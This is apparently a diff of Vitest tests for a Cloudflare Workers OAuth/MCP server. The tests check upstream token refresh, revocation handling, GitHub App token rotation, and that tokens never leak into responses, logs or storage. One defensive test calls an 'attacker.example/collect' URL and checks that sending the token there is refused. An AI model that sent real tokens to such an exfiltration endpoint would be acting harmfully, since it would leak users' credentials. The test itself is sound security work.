@@ -6,10 +6,16 @@
 import { env, runInDurableObject } from 'cloudflare:test';
 import { afterEach, describe, expect, it, vi } from 'vitest';
 import type { UpstreamTokenVault } from '../../src/upstream/vault';
-import { missingUpstreamScope } from '../../src/upstream/api';
+import { getOAuthApi } from '@cloudflare/workers-oauth-provider';
+import type { GrantProps } from '../../src/auth/props';
+import { loadConfig } from '../../src/config';
+import type { RequestAuth } from '../../src/mcp/request-auth';
+import { providerOptions } from '../../src/provider';
+import { missingUpstreamScope, upstreamApiFor } from '../../src/upstream/api';
 import { DevIdp } from './dev-idp';
-import { GITHUB_API, GITHUB_CLIENT_ID, GITHUB_CLIENT_SECRET, GITHUB_WEB } from './fixtures/github.ts';
-import { CALLBACK, McpWire, pkcePair, registerClient, tokenRequest, workerWithEnv, type RegisteredClient, type TokenResponse } from './helpers';
+import { expireGithubToken, GITHUB_API, GITHUB_APP_CLIENT_ID, GITHUB_APP_CLIENT_SECRET, GITHUB_CLIENT_ID, GITHUB_CLIENT_SECRET, GITHUB_WEB, githubStats, revokeGithubAuthorization } from './fixtures/github.ts';
+import { VAULT_IDP_ACCESS_TOKEN_TTL_SECONDS } from './provided-context.ts';
+import { CALLBACK, McpWire, ORIGIN, pkcePair, registerClient, tokenRequest, worker, workerWithEnv, type RegisteredClient, type TokenResponse } from './helpers';
 
 afterEach(() => {
   vi.restoreAllMocks();
@@ -172,6 +178,188 @@ describe('upstream tokens with an OIDC IdP (UPSTREAM_TOKENS=on)', () => {
     const grant = await env.OAUTH_KV.get<{ metadata: Record<string, unknown> }>(`grant:${userId}:${grantId}`, 'json');
     expect(grant?.metadata).not.toHaveProperty('vaultId');
     expect(await wire.toolNames()).toEqual(['whoami']);
+  });
+});
+
+/** Upstream tokens on, with a refresh token asked for: what a deployment with tools that act as the user sets. */
+function refreshingIdp(): DevIdp {
+  return DevIdp.shortLived({ UPSTREAM_TOKENS: 'on', OIDC_SCOPES: 'openid email profile offline_access' });
+}
+
+/**
+ * Every token an upstream's token endpoint issued while this test ran (the Worker's code exchanges and
+ * the vault's refreshes), read off the responses as they pass through fetch.
+ */
+function recordIssuedTokens(tokenEndpoint: (url: URL) => boolean): string[] {
+  const issued: string[] = [];
+  const original = globalThis.fetch;
+  const spy = vi.isMockFunction(original) ? vi.mocked(original) : vi.spyOn(globalThis, 'fetch');
+  const passThrough = (vi.isMockFunction(original) ? vi.mocked(original).getMockImplementation() : undefined) ?? original;
+  spy.mockImplementation(async (input, init) => {
+    const response = await passThrough(input, init);
+    if (tokenEndpoint(new URL(new Request(input, init).url))) {
+      const body = await response.clone().json<Record<string, unknown>>().catch(() => ({}) as Record<string, unknown>);
+      for (const name of ['access_token', 'refresh_token', 'id_token']) if (typeof body[name] === 'string') issued.push(body[name]);
+    }
+    return response;
+  });
+  return issued;
+}
+
+const sleep = (ms: number) => new Promise((resolve) => setTimeout(resolve, ms));
+
+describe('refreshing upstream tokens (the dev IdP, access tokens of a few seconds)', () => {
+  it('a call after the upstream access token expired succeeds through one refresh; the next one needs none', async () => {
+    const idp = refreshingIdp();
+    const { wire } = await connect(idp.env, ['upstream:userinfo'], (location) => idp.signIn(location, 'alice'));
+    await sleep(VAULT_IDP_ACCESS_TOKEN_TTL_SECONDS * 1000 + 200);
+    const before = await idp.refreshesOf('alice');
+    const result = await call(wire, 'upstream_userinfo');
+    expect(result.isError, JSON.stringify(result)).toBeUndefined();
+    expect(result.structuredContent).toMatchObject({ claims: { sub: 'alice' } });
+    expect(await idp.refreshesOf('alice')).toBe(before + 1);
+    expect((await call(wire, 'upstream_userinfo')).isError).toBeUndefined();
+    expect(await idp.refreshesOf('alice')).toBe(before + 1);
+  });
+
+  it('a token the IdP refuses before its time is refreshed once and the call retried', async () => {
+    const idp = refreshingIdp();
+    const { wire } = await connect(idp.env, ['upstream:userinfo'], (location) => idp.signIn(location, 'alice'));
+    await idp.expireAccessTokens('alice');
+    const before = await idp.refreshesOf('alice');
+    const result = await call(wire, 'upstream_userinfo');
+    expect(result.isError, JSON.stringify(result)).toBeUndefined();
+    expect(await idp.refreshesOf('alice')).toBe(before + 1);
+  });
+
+  it('two concurrent calls with an expired token cause exactly one refresh, and both succeed', async () => {
+    const idp = refreshingIdp();
+    const { wire } = await connect(idp.env, ['upstream:userinfo'], (location) => idp.signIn(location, 'bob'));
+    await sleep(VAULT_IDP_ACCESS_TOKEN_TTL_SECONDS * 1000 + 200);
+    const before = await idp.refreshesOf('bob');
+    // The IdP rotates refresh tokens and ends the grant when a used one comes back: a second refresh
+    // with the same token would fail both calls, not only count twice.
+    const [first, second] = await Promise.all([call(wire, 'upstream_userinfo'), call(wire, 'upstream_userinfo')]);
+    expect(first.isError, JSON.stringify(first)).toBeUndefined();
+    expect(second.isError, JSON.stringify(second)).toBeUndefined();
+    expect(await idp.refreshesOf('bob')).toBe(before + 1);
+  });
+
+  it('a refresh token revoked at the IdP: a tool error that says what to do, then 401 and invalid_grant, so the client authorizes again', async () => {
+    const idp = refreshingIdp();
+    const { wire, tokens, client } = await connect(idp.env, ['upstream:userinfo', 'profile'], (location) => idp.signIn(location, 'alice'));
+    const vaultId = await vaultIdOf(tokens);
+    await idp.revoke('alice');
+    const result = await call(wire, 'upstream_userinfo');
+    expect(result.isError).toBe(true);
+    expect(result.content?.[0]?.text).toMatch(/no longer accepts .* This connection has been ended: reconnect this app to sign in with your identity provider again, then retry\.$/);
+    // The grant is gone: MCP answers 401 invalid_token, and the refresh token is invalid_grant.
+    const after = await wire.request('tools/list');
+    expect(after.status).toBe(401);
+    expect(after.headers.get('WWW-Authenticate')).toContain('error="invalid_token"');
+    const refreshed = await tokenRequest(client, { grant_type: 'refresh_token', refresh_token: tokens.refresh_token });
+    expect(refreshed.status).toBe(400);
+    expect(await refreshed.json()).toMatchObject({ error: 'invalid_grant' });
+    // And its upstream tokens with it.
+    expect(await vaultStorage(vaultId)).toBe('[]');
+    // Audit records are written in batches after the response: look until they are there.
+    const [userId = ''] = tokens.access_token.split(':');
+    const since = new Date(Date.now() - 3_600_000).toISOString();
+    await vi.waitFor(
+      async () => {
+        const audit = await worker(`/admin/audit?since=${since}&type=grant.revoked&user=${encodeURIComponent(userId)}`, { headers: { Authorization: `Bearer ${String(Reflect.get(env, 'ADMIN_TOKEN'))}` } });
+        expect(await audit.text()).toContain('"reason":"upstream_sign_in_lost"');
+      },
+      { timeout: 5_000, interval: 200 },
+    );
+  });
+
+  it('the upstream tokens are in no response, log line, KV value or vault record in clear', async () => {
+    const idp = refreshingIdp();
+    const issued = recordIssuedTokens((url) => url.href.startsWith(idp.issuer) && url.pathname === '/token');
+    const logged: string[] = [];
+    for (const method of ['log', 'info', 'warn', 'error', 'debug'] as const) vi.spyOn(console, method).mockImplementation((...args: unknown[]) => void logged.push(args.map(String).join(' ')));
+    const { wire, tokens } = await connect(idp.env, ['upstream:userinfo'], (location) => idp.signIn(location, 'alice'));
+    const answers: string[] = [JSON.stringify(tokens)];
+    answers.push(JSON.stringify(await call(wire, 'upstream_userinfo')));
+    await idp.expireAccessTokens('alice'); // a refresh, so its tokens are among those looked for
+    answers.push(JSON.stringify(await call(wire, 'upstream_userinfo')));
+    // The code exchange's access, refresh and ID tokens, and the refresh's new pair (at least).
+    expect(issued.length).toBeGreaterThanOrEqual(5);
+    const kv: string[] = [];
+    for (let cursor: string | undefined, done = false; !done; ) {
+      const page: KVNamespaceListResult<unknown, string> = await env.OAUTH_KV.list({ cursor });
+      for (const key of page.keys) kv.push(`${key.name} ${(await env.OAUTH_KV.get(key.name)) ?? ''} ${JSON.stringify(key.metadata ?? null)}`);
+      done = page.list_complete;
+      cursor = page.list_complete ? undefined : page.cursor;
+    }
+    const stored = await vaultStorage(await vaultIdOf(tokens));
+    for (const token of issued) {
+      for (const [where, text] of [['responses', answers.join('\n')], ['logs', logged.join('\n')], ['OAUTH_KV', kv.join('\n')], ['vault', stored]] as const) {
+        expect(text.includes(token), `an upstream token in ${where}`).toBe(false);
+      }
+    }
+  });
+});
+
+/** The facts a tool call of `tokens` runs with, as the MCP route builds them from the verified token. */
+async function requestAuthOf(variant: Env, tokens: TokenResponse, clientId: string): Promise<RequestAuth> {
+  const unwrapped = await getOAuthApi(providerOptions(loadConfig(variant), ORIGIN), variant).unwrapToken<GrantProps>(tokens.access_token);
+  if (!unwrapped) throw new Error('token did not unwrap');
+  return { user: unwrapped.grant.props, scopes: unwrapped.scope, clientId, grantId: unwrapped.grantId, resource: ORIGIN };
+}
+
+describe('upstream.fetch, the capability tools get', () => {
+  it('sends the token only to the upstream\'s API origins: anywhere else is refused before anything is sent', async () => {
+    const idp = refreshingIdp();
+    const { tokens, client } = await connect(idp.env, ['upstream:userinfo'], (location) => idp.signIn(location, 'alice'));
+    const upstream = upstreamApiFor(await requestAuthOf(idp.env, tokens, client.client_id), idp.env);
+    const sent = idp.fetched.length;
+    await expect(upstream.fetch('https://attacker.example/collect')).rejects.toMatchObject({ problem: 'refused', reason: 'origin_not_allowed' });
+    await expect(upstream.fetch(`${idp.issuer.replace('localhost', '127.0.0.1')}/api/me`)).rejects.toMatchObject({ problem: 'refused', reason: 'origin_not_allowed' });
+    // Only discovery may have been read meanwhile; no request went anywhere with the token.
+    expect(idp.fetched.slice(sent).every((url) => url.includes('/.well-known/'))).toBe(true);
+    expect((await upstream.fetch(`${idp.issuer}/api/me`)).status).toBe(200);
+  });
+
+  it('an upstream scope the configuration does not ask for is the administrator\'s to add; one it asks for now means signing in again', async () => {
+    const idp = refreshingIdp();
+    const { tokens, client } = await connect(idp.env, ['upstream:userinfo'], (location) => idp.signIn(location, 'alice'));
+    const auth = await requestAuthOf(idp.env, tokens, client.client_id);
+    // The dev IdP's /api/groups needs `groups`, which OIDC_SCOPES does not name here.
+    await expect(upstreamApiFor(auth, idp.env).fetch(`${idp.issuer}/api/groups`)).rejects.toMatchObject({
+      problem: 'refused',
+      reason: 'upstream_scope_not_configured',
+      userMessage: 'Your identity provider needs the "groups" permission for this, which this server does not ask for. An administrator can add it to OIDC_SCOPES.',
+    });
+    const reconfigured = { ...idp.env, OIDC_SCOPES: 'openid email profile offline_access groups' } as Env;
+    await expect(upstreamApiFor(auth, reconfigured).fetch(`${idp.issuer}/api/groups`)).rejects.toMatchObject({ problem: 'reauthorize', reason: 'upstream_scope_missing' });
+  });
+});
+
+describe('refreshing GitHub App user tokens (they expire; OAuth app tokens do not)', () => {
+  const appEnv = () => githubEnv({ GITHUB_CLIENT_ID: GITHUB_APP_CLIENT_ID, GITHUB_CLIENT_SECRET: GITHUB_APP_CLIENT_SECRET });
+
+  it('an expired ghu_ token is refreshed with its ghr_ refresh token, rotated, and the call succeeds', async () => {
+    const issued = recordIssuedTokens((url) => url.origin === GITHUB_WEB && url.pathname === '/login/oauth/access_token');
+    const { wire } = await connect(appEnv(), ['github:profile'], githubBrowser('octocat'));
+    const accessToken = issued.find((token) => token.startsWith('ghu_'));
+    expect(accessToken).toBeDefined();
+    expect(await expireGithubToken(accessToken as string)).toBe(true);
+    const before = (await githubStats()).refreshByLogin.octocat ?? 0;
+    const result = await call(wire, 'github_profile');
+    expect(result.isError, JSON.stringify(result)).toBeUndefined();
+    expect(result.structuredContent).toMatchObject({ login: 'octocat' });
+    expect((await githubStats()).refreshByLogin.octocat).toBe(before + 1);
+  });
+
+  it('an app the user revoked on GitHub: the tool says to reconnect and the grant ends', async () => {
+    const { wire } = await connect(appEnv(), ['github:profile'], githubBrowser('hubot'));
+    expect(await revokeGithubAuthorization('hubot', GITHUB_APP_CLIENT_ID)).toBeGreaterThan(0);
+    const result = await call(wire, 'github_profile');
+    expect(result.isError).toBe(true);
+    expect(result.content?.[0]?.text).toContain('reconnect this app to sign in with GitHub again');
+    expect((await wire.request('tools/list')).status).toBe(401);
   });
 });
 
